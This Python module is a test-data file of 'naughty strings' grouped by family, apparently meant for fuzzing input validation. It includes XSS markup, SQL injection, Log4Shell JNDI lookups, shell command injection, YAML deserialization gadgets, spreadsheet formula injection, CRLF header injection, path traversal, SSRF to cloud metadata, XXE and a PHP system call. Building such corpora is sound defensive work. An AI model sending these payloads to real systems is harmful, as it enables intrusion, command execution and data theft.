"""Strings that have broken software before, by family; written here, none downloaded."""

import unicodedata

MARK = "zq7canary"


def _case(text: str) -> list[str]:
    return [text.lower(), text.upper(), text.swapcase()]


UNICODE = [
    "é", "é", "ﬁnance", "straße", "STRASSE", "İstanbul", "ıstanbul", "\u212aelvin", "ſecret", "a\u200bb", "a\u200cb",
    "a\u200db", "\ufeffada", "\u202eexe.gpj", "\u2066ada\u2069", "Z" + "\u0316\u0317\u0318\u0319\u0320" * 40, "\ud800", "a\udfffb",
    "\ufffe", "\uffff", "\U0001fffe", "a\x00b", "\x00", "👩‍👩‍👧‍👦", "🏳️‍🌈", "𝒜𝒹𝒶", "a\u2028b", "a\u2029b", "\U000e0041\U000e0042", "ﷺ" * 20,
    "аpple", "раураl", "Ａｄａ", "ada\u00a0l", "\u3000", "\u180e", "ｕｎｉｏｎ", "ǅ", "ß" * 100, "ﷲ", "مرحبا بالعالم", "שלום", "你好世界", "हिन्दी",
    "\u0f3d" * 5, "￼", "�", "𐐷𐐷", "\U0010ffff", "ʻOkina", "Ŀl", "ij", "Ŏ̈", unicodedata.normalize("NFD", "Ångström"), "ﾊﾝｶｸ", "①②③", "Ⅷ",
    *_case("ŉǰΐΰևẖẗẘẙẚ"),
]  # fmt: skip
EMAIL = [
    "ada+tag@example.org", "a.d.a@example.org", "ADA@EXAMPLE.ORG", '"ada"@example.org', '"a b"@example.org', "ada(comment)@example.org",
    "group:ada@example.org;", "a@b@example.org", "ada@example.org.", "ada@example", "ada@", "@example.org", "ada", "ada@[127.0.0.1]",
    "ada@[IPv6:::1]", "=?utf-8?q?ada?=@example.org", "ada%0d%0aBcc:eve@example.net", "ada@example.org%0aBcc:eve@example.net",
    "ada@example.org\r\nBcc: eve@example.net", "ada@example.org\nSubject: hi", "ada@example.org,eve@example.net", "ada@example.org;eve@example.net",
    "ada@example.org eve@example.net", "<ada@example.org>", "Ada <ada@example.org>", "@relay:ada@example.org", "uucp!ada@example.org",
    "ada%eve@example.org", "mıke@example.org", "ada@exаmple.org", "ada@xn--80ak6aa92e.com", "ada@xn--0049.org", "ada＠example.org",
    "ada@example。org", "ada@ｅxample.org", "ada@fuß.example", "ada@-example.org", "ada@example-.org", "ada@exa_mple.org", "ada@.org",
    "ada@example..org", "ada..l@example.org", ".ada@example.org", "ada.@example.org", "x" * 64 + "@example.org", "x" * 65 + "@example.org",
    "a@" + "x" * 63 + ".org", "a@" + "x" * 64 + ".org", "a@" + ".".join(["x" * 60] * 4) + ".org", "ada@123.123.123.123", "ada@example.123",
    "ada@localhost", "ada\x00@example.org", "ada@example.org\x00", "-ada@example.org", "ada@example.org?cc=eve@example.net", "mailto:ada@example.org",
    "ad\u200ba@example.org", "ada@example.org\u202e", "名前@例え.jp", "ada@例え.jp", "a@a.co", "!#$&'*+-/=?^_`{|}~@example.org",
]  # fmt: skip
NAMES = [
    "A", "O'Brien", "Null", "null", "None", "N/A", "True", "False", "0", "undefined", "NaN", "nil", "-", ".", "..", "Test", "D'Arcy-O’Neil", "X Æ A-12",
    "Nguyễn Thị", "María-José Carreño Quiñones", "x" * 200, "x" * 201, "x" * 5000, "Robert'); DROP TABLE requests;--", "Jean\tLuc", "Ada\nLovelace",
    "Ada\rLovelace", "  Ada  ", "\x07bell", "\x1b[31mred\x1b[0m", "\x7f", "\x85next", "Ada http://evil.example", "www.evil.example", "‮Ada",
]  # fmt: skip
MARKUP = [
    f"<script>alert('{MARK}')</script>", f"\"><script>alert('{MARK}')</script>", f"'><img src=x onerror=alert('{MARK}')>", "<svg/onload=alert(1)>",
    '" onfocus=alert(1) autofocus="', "' onmouseover='alert(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>", "<iframe src=javascript:alert(1)>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<a href='javascript:alert(1)'>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example>", "<math><mi//xlink:href='data:x,<script>'>",
    "<img src=//evil.example/x.png>", "&lt;script&gt;", "&#60;script&#62;", "&", "&amp;", "&nbsp;", "<", ">", "<x", "</", "\"", "'", "`", "<b>bold</b>",
    "[link](javascript:alert(1))", "![x](//evil.example/x.png)", "# Heading", "**bold**", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾", "\x3cscript\x3e", "%3Cscript%3E", "<scr\x00ipt>", "<SCRIPT SRC=//evil.example>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load i18n %}", "{% include 'base.html' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{request.META}}", "${jndi:ldap://evil.example/a}", "%s%n%x", "%(email)s", "{0}", "{email}", "{0.__class__}", "%", "%%", "%d", "{", "}", "{{", "}}", "{#", "\\N{BULLET}",
    "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "\n id", "$IFS", "__import__('os').system('id')", "!!python/object/apply:os.system ['id']",
]  # fmt: skip
FORMULAS = [
    "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", "；=1+1", "＝1+1",
    "=DDE(\"cmd\")", "\"=1+1", "'=1+1", "%0A=1+1", ",=1+1", ";=1+1", "|=1+1",
]  # fmt: skip
SQL = [
    "' OR 1=1 --", "\" OR \"\"=\"", "';--", "'; DROP TABLE x;--", "1; SELECT pg_sleep(5)", "' UNION SELECT 1,2,3--", "$$;", "/*", "*/", "--", "%", "_", "\\",
    "\\'", "'", "''", "') OR ('1'='1", "1' AND SLEEP(5)#", "x' AND email IS NULL; --", "admin'--", "LIKE '%'", "\\x27", "0x27", "a%", "_da%", "[abc]", "\\%",
    "email__contains", "id__in", "pk", "__class__", "_connector", "OR",
]  # fmt: skip
HEADERS = [
    "x\r\nSet-Cookie: evil=1", "x\nLocation: //evil.example", "x%0d%0aSet-Cookie:%20evil=1", "x\r\n\r\n<script>alert(1)</script>", "x\u560d\u560aSet-Cookie: evil=1",
    "x\u2028Set-Cookie: evil=1", "x\x0bSet-Cookie: evil=1", "x\x85Set-Cookie: evil=1", "\r\nBcc: eve@example.net\r\n", "\n\n.\n", ".\r\nMAIL FROM:<eve@example.net>",
    "2026-01-01 00:00:00 INFO forged: line", "x\n2026-01-01 00:00:00,000 INFO root: forged line", "\x1b]0;title\x07",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd",
    "..%c0%af..", "..%00.png", "CON", "NUL.txt", "a.", "a ", "~root", "\\\\evil.example\\share", "php://filter", "//evil.example", "/\\evil.example", "https://evil.example",
    "http://127.0.0.1:6379/", "http://169.254.169.254/latest/", "gopher://127.0.0.1/", "https:evil.example", ".git/config", "x" * 255 + ".txt", ".htaccess", "a/b", "a\\b",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "1", "2147483648", "9223372036854775808", "1e309", "NaN", "Infinity", "-Infinity", "0x1F", "007", "1_000", "１２３", "٣", "1.0", "1,5", "1e1000", "9" * 400,
    "true", "[]", "{}", "null", "0000-00-00", "2025-02-29", "2026-04-31", "24:00", "9999-12-31", "10000-01-01", "1752-09-03", "2038-01-19", "now", "-1-1-1", "2026-W01", "1767225600000",
    "00000000-0000-0000-0000-000000000000", "DE", "US-CA", "us-ca", "ZZ", "US-XX", "access", "delete", "ACCESS", "access ", "opt_out_sale", "staff", "admin",
]  # fmt: skip
SIZES = [
    "",
    " ",
    "\n",
    "\t",
    "\r\n" * 50,
    "x" * 254,
    "x" * 255,
    "x" * 4000,
    "x" * 4001,
    "é" * 4000,
    "𝒜" * 3000,
    "x" * 70_000,
    "x " * 2000,
    "\u0301" * 500,
    "(" * 5000,
    "[" * 3000,
]
FILES = [
    "GIF89a/*<svg/onload=alert(1)>*/=1;", "%PDF-1.4\n%âãÏÓ\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "PK\x03\x04../../evil", "\x89PNG\r\n\x1a\n<html>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "<?php system('id'); ?>", "#!/bin/sh\nid", "MZ\x90\x00",
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "BEGIN:VCARD\nFN:<script>\nEND:VCARD", "a: &a [*a]", "- !!python/name:os.system", "\"\"\"", "\\u0000", "\\ud800", "{\"a\":1,\"a\":2}",
]  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "unicode": UNICODE, "email": EMAIL, "names": NAMES, "markup": MARKUP, "templates": TEMPLATES, "formulas": FORMULAS, "sql": SQL,
    "headers": HEADERS, "paths": PATHS, "numbers": NUMBERS, "sizes": SIZES, "files": FILES,
}  # fmt: skip


def strings() -> list[str]:
    """All of them, once each."""
    return list(dict.fromkeys(one for family in FAMILIES.values() for one in family))
